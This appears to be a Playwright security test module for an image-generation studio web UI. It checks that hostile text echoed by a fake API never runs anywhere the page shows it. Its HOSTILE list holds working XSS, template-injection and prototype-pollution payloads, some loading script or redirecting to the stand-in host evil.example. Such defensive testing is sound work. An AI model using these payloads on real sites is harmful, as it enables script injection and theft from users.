"""Words that want to be more than words, wherever foreign text comes in and wherever it is shown.

Each one, were it ever read as HTML, script, style or template, would set ``window.__xss``, leave an
element with ``data-xss``, ask for something of another host, open a dialog or leave the page. Half
of the visits are made without the page's policy, so that it is not the policy alone that holds.
"""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import count
from typing import Any

import pytest
from playwright.sync_api import Dialog, Error, FilePayload, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from kling_ui.errors import clean
from kling_ui.fields import read_text
from kling_ui.pictures import inscribed

from ..conftest import photo, served
from ..program import Program
from ..security.conftest import running
from ..security.visitor import Visitor, eventually
from .stream import CARD, saying

pytestmark = pytest.mark.browser

Visit = Callable[..., Page]
EVIL = "https://evil.example"
HOSTILE = (
    f"<img data-xss src={EVIL}/i onerror=window.__xss=1>",
    "<svg data-xss onload=window.__xss=2>",
    "</script><script data-xss>window.__xss=3</script>",
    f'"><script data-xss src={EVIL}/s.js></script>',
    '" autofocus onfocus="window.__xss=4" data-xss="',
    "' onmouseover='window.__xss=5' data-xss='",
    "${Object.assign(window,{__xss:6})}",
    "`${window.__xss=7}`",
    "\\`+(window.__xss=8)+\\`",
    "{{constructor.constructor('window.__xss=9')()}}",
    "{{{this}}} {{#each this}}${alert(10)}{{/each}} <%= alert(10) %> #{alert(10)}",
    '<iframe data-xss srcdoc="<script>parent.__xss=11</script>"></iframe>',
    "<iframe data-xss src=javascript:parent.__xss=12></iframe>",
    "<a data-xss autofocus href=javascript:window.__xss=13>a link</a>",
    "javascript:window.__xss=14//",
    f"<meta data-xss http-equiv=refresh content='0;url={EVIL}/m'>",
    f"<base data-xss href={EVIL}/>",
    f"<style data-xss>*{{background:url({EVIL}/c)}}</style>",
    f"red;background:url({EVIL}/b);--x:'",
    "</textarea></title></style></option><img data-xss src=x onerror=window.__xss=15>",
    f"<form data-xss action={EVIL}/f><input autofocus onfocus=window.__xss=16></form>",
    f"![a picture]({EVIL}/md.png) [a link](javascript:window.__xss=17)",
    "<details data-xss open ontoggle=window.__xss=18>",
    "<math data-xss><mtext><table><mglyph><style><!--</style><img src=x onerror=window.__xss=19>",
    f"<object data-xss data={EVIL}/o></object><embed data-xss src={EVIL}/e>",
    "\u202egnp.exe\u202c\u2066 <b data-xss>bold</b>",
    "<img\x00 data-xss src=x one\x00rror=window.__xss=20>",
    "\ufeff\u2028<script data-xss>\u2029window.__xss=21</script>",
    "&lt;img data-xss src=x onerror=window.__xss=22&gt; &#60;b data-xss&#62;",
    "%3Cscript data-xss%3Ewindow.__xss=23%3C/script%3E \\u003cscript\\u003e",
    "{0.__class__} {n} {prompt} {value} {names} %s %(x)s $& $1 $$",
    "__proto__",
    "constructor",
)
PLAIN = [one for one in HOSTILE if not {*"{}|"} & {*one}]  # fit to be one of {a|b}
SUCCEEDS, FAILS, REFUSED, ODD = "1:1", "3:2", "2:3", "4:3"  # shapes, by which Kling misbehaves


def squeezed(words: str) -> str:
    """As far as an id or an address takes it."""
    return "".join(one for one in words if "!" <= one <= "~")


def written(words: str) -> str:
    """As a prompt of it is kept."""
    return str(read_text(words))


def meant(prompt: str) -> str:
    """With what was taken away."""
    return next((words for words in HOSTILE if written(words) == prompt), prompt)


@dataclass
class Kling:
    """One that says back what it was asked, wherever it may say anything."""

    picture: bytes
    tasks: dict[str, Any] = field(default_factory=dict)
    numbers: Iterator[int] = field(default_factory=count)

    async def create(self, request: Request) -> Response:
        asked = await request.json()
        words, number = meant(asked["prompt"]), next(self.numbers)
        if asked["aspect_ratio"] == REFUSED:
            said = {"code": words, "message": words, "request_id": words, "error": words}
            return JSONResponse(said, 400)
        task_id = f"{number}{words}"
        self.tasks[task_id] = asked
        return self.told({"task_id": task_id, "task_status": "submitted"}, words)

    async def look(self, request: Request) -> Response:
        task_id = request.path_params["id"]
        if task_id not in self.tasks:
            return JSONResponse({"code": 1203, "message": task_id, "request_id": task_id}, 404)
        return self.told(self.task(task_id, request), meant(self.tasks[task_id]["prompt"]))

    async def list(self, request: Request) -> Response:
        return self.told([self.task(one, request) for one in reversed(self.tasks)], HOSTILE[0])

    def task(self, task_id: str, request: Request) -> dict[str, Any]:
        asked = self.tasks[task_id]
        words, shape = meant(asked["prompt"]), asked["aspect_ratio"]
        known: dict[str, Any] = {
            "task_id": task_id,
            "task_status_msg": words,
            "final_unit_deduction": words,
        }
        known |= {"task_info": {"external_task_id": asked["external_task_id"]}, words: words}
        if shape == FAILS:
            return {**known, "task_status": "failed"}
        if shape == ODD:
            return {**known, "task_status": words}
        image = {"index": words, "url": f"{request.base_url}picture.png?{b64encode(b'x').decode()}"}
        result = {"images": [image] * asked["n"]}
        return {**known, "task_status": "succeed", "task_result": result}

    def told(self, data: Any, words: str) -> JSONResponse:
        return JSONResponse({"code": 0, "message": words, "request_id": words, "data": data})

    async def give(self, _: Request) -> Response:
        return Response(self.picture, media_type="image/jpeg", headers={"x-words": "<script>"})

    @property
    def app(self) -> Starlette:
        path = "/kling/v1/images/generations"
        return Starlette(
            routes=[
                Route(path, self.create, methods=["POST"]),
                Route(path, self.list),
                Route(f"{path}/{{id:path}}", self.look),
                Route("/picture.png", self.give),
            ]
        )


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Program]:
    """With a task of each kind for all of the words, and two comparisons."""
    folder = tmp_path_factory.mktemp("words")
    models: dict[str, Any] = {"kling-v2-1": 0.001} | {words: 0.001 for words in HOSTILE}
    table = {"currency": HOSTILE[0], "models": models}
    (folder / "prices.json").write_text(json.dumps({HOSTILE[1]: table, "127.0.0.1": table}))
    with served(Kling(photo(320, 320)).app) as url:
        env = {
            "KLING_BASE_URL": f"{url}/kling",
            "KLING_API_KEY": "a-key-of-somebody",
            "KLING_UI_PRICES": str(folder / "prices.json"),
        }
        with running(folder / "data", **env) as program:
            somebody = Visitor.come(program, space=False)
            asked_for(somebody)
            yield program
            somebody.http.close()


def asked_for(somebody: Visitor) -> None:
    tasks = []
    for number, words in enumerate(HOSTILE):
        for shape in (SUCCEEDS, FAILS, REFUSED):
            given = {
                "model_name": words,
                "negative_prompt": words,
                "aspect_ratio": shape,
                "n": 1,
                "callback_url": f"{EVIL}/?{squeezed(words)}",
                "external_task_id": f"{number}{shape}{squeezed(words)}",
                "image_url": f"{EVIL}/p.png?{squeezed(words)}",
            }
            tasks.append(somebody.submit(words, **given))
    for one in range(3):
        few = "|".join(PLAIN[4 * one : 4 * one + 4])
        models = [HOSTILE[one], HOSTILE[-one - 1]]
        given = {"model_name": "kling-v3", "aspect_ratio": SUCCEEDS, "n": 1}
        tasks.append(somebody.submit(f"{{{few}}} fox", compare_models=models, **given))
    eventually(lambda: all(card["over"] for card in somebody.cards()), within=60)
    somebody.submit(HOSTILE[1], model_name=HOSTILE[1], aspect_ratio=ODD, n=1)


# what may not happen

VISITS = [("en-US", False), ("zh-CN", True)]  # a language, and whether the page's policy is there
LISTEN = """
window.__violations = [];
addEventListener("securitypolicyviolation", (event) =>
  window.__violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
HAPPENED = """() => ({
  ran: window.__xss ?? null,
  stands: document.querySelector("[data-xss]")?.outerHTML ?? null,
  violations: window.__violations,
})"""
CARELESS = """words => {
  document.body.innerHTML = words;
  document.body.innerHTML += `<p title="${words}"></p><p title='${words}'></p>`;
  document.body.innerHTML += `<a href="${words}">`;
  for (const one of document.querySelectorAll("[href^=javascript], [onfocus]")) {
    one.focus();
    one.click();
  }
  document.querySelectorAll("p").forEach((one) => one.onmouseover?.());
  for (const code of ["return `" + words + "`", words]) {
    try { Function(code)() } catch { /* it is none */ }
  }
}"""
DROP = """([packed, name]) => {
  const bytes = Uint8Array.from(atob(packed), (one) => one.charCodeAt(0));
  const dataTransfer = new DataTransfer();
  dataTransfer.items.add(new File([bytes], name, { type: "image/jpeg" }));
  document.querySelector("#field-prompt textarea")
    .dispatchEvent(new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer }));
}"""
IN_THE_BACKGROUND = """
window.__notes = [];
window.Notification = class {
  static permission = "granted";
  constructor(title, { body }) { window.__notes.push([title, body]); }
  close() {}
};
Object.defineProperty(document, "hidden", { get: () => true });
try { localStorage.setItem("kling.notify", "on") } catch { /* no page yet */ }
"""
NOTHING: dict[str, Any] = {"ran": None, "stands": None, "violations": []}
LONG = 15_000  # milliseconds


@pytest.fixture
def look(studio: Program, visit: Visit) -> Iterator[Visit]:
    """``look(locale, policy)`` opens the page; whatever is done with it then, nothing happens."""
    pages, odd = list[Page](), list[str]()

    def watched(page: Page) -> None:
        page.add_init_script(LISTEN)
        page.on("dialog", refuse)
        page.on("request", lambda one: note(one.url))
        page.on("framenavigated", lambda one: note(one.url))
        page.on("popup", lambda one: odd.append(one.url))

    def refuse(dialog: Dialog) -> None:
        odd.append(dialog.message)
        dialog.dismiss()

    def note(url: str) -> None:
        if not at_home(url):
            odd.append(url)

    def at_home(url: str) -> bool:
        return url.startswith((studio.url, "data:", "blob:")) or url == "about:blank"

    def look_at(locale: str, policy: bool, **options: Any) -> Page:
        def before(page: Page) -> None:
            watched(page)
            options.get("before", lambda _: None)(page)

        own = {"locale": locale, "bypass_csp": not policy, "before": before}
        pages.append(visit(studio.url, **{**options, **own}))
        return pages[-1]

    yield look_at
    for page in pages:
        assert page.evaluate(HAPPENED) == NOTHING
        page.close()
    assert odd == []


def test_what_is_hostile_would_be_seen(chromium: Any) -> None:
    """Without any care nearly all of it does something."""
    seen = []
    for words in HOSTILE:
        page = chromium.new_page()
        page.evaluate(LISTEN)
        try:
            page.evaluate(CARELESS, words)
            page.wait_for_timeout(20)
            seen.append(page.evaluate(HAPPENED) != NOTHING)
        except Error:  # it led away
            seen.append(True)
        page.close()
    assert sum(seen) > 20, [one for one, sight in zip(HOSTILE, seen, strict=True) if not sight]


# where it is shown


def all_cards(page: Page) -> None:
    """Also the older ones."""
    expect(page.locator("#feed .card").first).to_be_visible()
    for _ in range(20):
        if page.locator("#feed > .pill").is_hidden():
            break
        page.evaluate("document.querySelector('#feed > .pill')?.scrollIntoView()")
        page.wait_for_timeout(200)
    expect(page.locator("#feed > .pill")).to_be_hidden()


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_on_cards_and_in_the_search(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    all_cards(page)
    shown = page.eval_on_selector_all(
        "#feed .card",
        "all => all.map(one => [one.querySelector('.prompt').textContent, one.title])",
    )
    assert {words for words, _ in shown} >= {*map(written, HOSTILE)}
    assert all(words == title for words, title in shown)
    named = page.eval_on_selector_all("#feed img", "all => all.map(one => one.alt).join()")
    for words in HOSTILE:
        assert written(words) in named
    for words in HOSTILE[::4]:
        page.fill("#history-search", f"{words} nowhere")
        query = f"{written_in_a_field(words)} nowhere"
        expect(page.locator("#feed > .empty")).to_contain_text(query)


def written_in_a_field(words: str) -> str:
    """As a field of one line takes it."""
    return words.replace("\x00", "").strip()


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_on_the_stage_and_in_the_details(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    all_cards(page)
    page.locator("#feed .card:not(.group)").first.click()
    page.click("#act-details")
    seen = set[tuple[str, str]]()
    cards = page.locator("#feed .card:not(.group)")
    for number in range(cards.count()):
        words, kind = page.evaluate(
            """number => {
              const card = document.querySelectorAll("#feed .card:not(.group)")[number];
              card.click();
              const state = card.querySelector(".state").className;
              return [card.querySelector(".prompt").textContent, state];
            }""",
            number,
        )
        expect(page.locator("#stage-head > b")).to_have_text(words, use_inner_text=False)
        (given,) = (one for one in HOSTILE if written(one) == words)
        details = page.locator("#stage-details")
        if "err" in kind:
            expect(page.locator("#stage-head .said")).to_have_text(clean(given))
            expect(details).to_contain_text(clean(given))
        expect(details).to_contain_text(json.dumps(words, ensure_ascii=False)[1:-1])
        if "task_status" in kind:
            expect(details).to_contain_text("task_status_msg")
        title = page.get_attribute("#stage-head > b", "title")
        assert title == words, title
        seen.add((words, kind))
    assert len(seen) >= 2 * len(HOSTILE)


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_as_labels_of_a_comparison_and_under_presented_pictures(
    look: Visit, locale: str, policy: bool
) -> None:
    page = look(locale, policy)
    for number in range(3):
        page.locator("#feed .card.group").nth(number).click()
        labels = page.locator("#stage-grid .label")
        expect(labels).to_have_count(6)
        told = {*labels.all_text_contents()}
        place = 2 - number  # the latest stands first
        rows = {written(words) for words in PLAIN[4 * place : 4 * place + 4]}
        columns = {HOSTILE[place], HOSTILE[-place - 1]}
        assert told == rows | {written(words).strip() for words in columns}
        assert {*labels.evaluate_all("all => all.map(one => one.title)")} == told
        with page.expect_download():
            page.click("#act-export")
        page.keyboard.press("p")
        for words in PLAIN[4 * place : 4 * place + 4]:
            caption = page.locator("#present .caption")
            expect(caption).to_have_text(f"{written(words)} fox", use_inner_text=False)
            page.keyboard.press("ArrowRight")
            page.keyboard.press("ArrowRight")
        page.keyboard.press("Escape")


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_in_the_settings_and_in_questions(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    expect(page.locator("#generate")).to_contain_text(HOSTILE[0])  # a price in that currency
    page.click("#pill-settings")
    drawer = page.locator("#drawer")
    expect(drawer.locator("table")).to_have_count(2)
    spent, prices = drawer.locator("table").all_text_contents()
    for words in HOSTILE:
        assert written(words).strip() in spent
        assert words.strip() in prices
    expect(drawer.locator("dl.sums")).to_contain_text(HOSTILE[0])
    for words in HOSTILE[::5]:
        page.fill("#adopt-id", words)
        page.press("#adopt-id", "Enter")
        expect(page.locator("#adopt-problem")).not_to_be_empty()
        page.fill("#key-field", words)
        page.press("#key-field", "Enter")
        expect(page.locator("#key-problem")).not_to_be_empty()
    page.keyboard.press("Escape")
    page.evaluate("words => kling.fillWith({ prompt: words, model_name: words })", HOSTILE[1])
    expect(page.locator("#field-model_name input")).to_have_value(HOSTILE[1])
    page.click("#pill-settings")
    drawer.locator(".defaults button").first.click()
    expect(drawer.locator(".defaults p")).to_contain_text(HOSTILE[1])
    page.keyboard.press("Escape")
    page.evaluate("kling.fillWith({ prompt: 'a fox', model_name: 'kling-v2-1' })")
    expect(page.locator("#generate")).to_contain_text(HOSTILE[0])
    page.evaluate("kling.ask = { pictures: 0, money: 0 }; undefined")
    page.click("#generate")
    expect(page.locator("#sure .yes")).to_contain_text(HOSTILE[0])
    page.click("#sure button >> nth=0")
    card = page.locator("#feed .card .state.err").first
    card.click()
    page.click("#act-delete")
    expect(page.locator("#sure")).to_be_visible()
    page.click("#sure button >> nth=0")


# where it comes in


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_from_a_link_into_the_form_and_the_request(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    page.click("#request .fold-head")
    request = page.locator("#request-shown pre")
    for words in (*HOSTILE[policy::4], "__proto__", "constructor"):
        values = {"prompt": words, "negative_prompt": words, "model_name": words}
        page.evaluate("values => { location.href = kling.linkTo(values) }", values)
        expect(page.locator("#field-prompt textarea")).to_have_value(words)
        expect(page.locator("#field-model_name input")).to_have_value(words)
        expect(page.locator("#generate")).to_contain_text("·")
        told = json.dumps(written(words), ensure_ascii=False)
        expect(request).to_contain_text(told)
    for kind in ("cURL", "Python"):
        page.locator("#request-shown .pill", has_text=kind).click()
        expect(request).to_contain_text(words)
    page.reload()  # what was typed stays
    expect(page.locator("#field-prompt textarea")).to_have_value(words)
    expect(page.locator("#generate")).to_contain_text("·")


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_typed_where_it_does_not_belong(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    page.click("#more .fold-head")
    page.evaluate(
        "kling.fillWith({ model_name: 'one-of-my-own', image_url: 'https://a.com/b.png' })"
    )
    expect(page.locator("#field-image_fidelity textarea")).to_be_enabled()
    fields = ("external_task_id", "callback_url", "element_list", "image_fidelity", "image_url")
    problems = page.locator("#problems")
    for words in [one for one in HOSTILE if " " in one][policy::4]:
        for name in fields:
            page.fill(f"#field-{name} textarea", f"{words} {words}")
        page.fill("#field-prompt textarea", words)
        page.click("#generate")
        for name in fields:
            expect(page.locator(f"#field-{name} .problem")).not_to_be_empty()
        expect(problems.locator("p")).to_have_count(len(fields))
        expect(problems).to_contain_text(written(words)[:20])  # the number that is none
    page.fill("#field-image_url textarea", f"https://{PLAIN[0]}/")
    page.click("#generate")
    expect(page.locator("#field-image_url .problem")).not_to_be_empty()


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_in_files_and_their_names(look: Visit, locale: str, policy: bool) -> None:
    page = look(locale, policy)
    prompt, model = page.locator("#field-prompt textarea"), page.locator("#field-model_name input")
    for words in HOSTILE[policy::2]:
        asked = {"prompt": words, "model_name": words, "negative_prompt": words, words: words}
        made = inscribed(photo(), request=asked, task_id=words)
        page.evaluate(DROP, [b64encode(made).decode(), f"{words}.jpg"])
        expect(prompt).to_have_value(words)
        expect(model).to_have_value(words)
    upload, shown = "#field-image input[type=file]", page.locator("#field-image img")
    for words in HOSTILE[policy:4]:
        for picture, problem in ((photo(), 0), (words.encode(), 1)):
            file = FilePayload(name=f"{words}.png", mimeType="image/png", buffer=picture)
            page.set_input_files(upload, [file])
            expect(shown).to_have_count(1)
            expect(page.locator("#field-image .problem")).to_have_count(problem)
            page.locator("#field-image .icon-button-wrapper button").last.click()
            expect(page.locator(upload)).to_have_count(1)


@pytest.mark.parametrize(("locale", "policy"), VISITS)
def test_from_the_studio_in_notices_titles_and_notifications(
    look: Visit, locale: str, policy: bool
) -> None:
    hostile = HOSTILE[policy:18:2]
    running = [
        {"state": words, "over": False, "sent": 1, "request": {"prompt": words, "n": words},
         "trouble": dict.fromkeys(("title", "advice", "charged", "detail"), words),
         "price": words, "said": words, "deduction": words, "case": words,
         "ids": {"task_id": words, "request_id": words, "external_task_id": words}}
        for words in hostile
    ]  # fmt: skip
    over = [
        {**CARD, **card, "id": str(k) * 32, "revision": 2, "state": "succeeded", "over": True}
        for k, card in enumerate(running)
    ]
    told = saying(*running, then=over, notice=hostile[0], spent=[hostile[0]])

    def before(page: Page) -> None:
        page.add_init_script(IN_THE_BACKGROUND)
        told(page)

    page = look(locale, policy, before=before, refused={404})
    expect(page.locator("#banner")).to_have_text(hostile[0])
    expect(page.locator("#pill-spent")).to_contain_text(hostile[0])
    page.wait_for_function("k => window.__notes.length === k", arg=len(hostile))
    assert tuple(body for _, body in page.evaluate("window.__notes")) == hostile
    title = "可灵图像工作室" if locale == "zh-CN" else "Kling Image Studio"
    expect(page).to_have_title(f"({len(hostile)}) {title}")
    expect(page.locator("#stage-head .notice")).to_contain_text(hostile[0])
    page.click("#act-details")
    expect(page.locator("#stage-details")).to_contain_text(hostile[0])
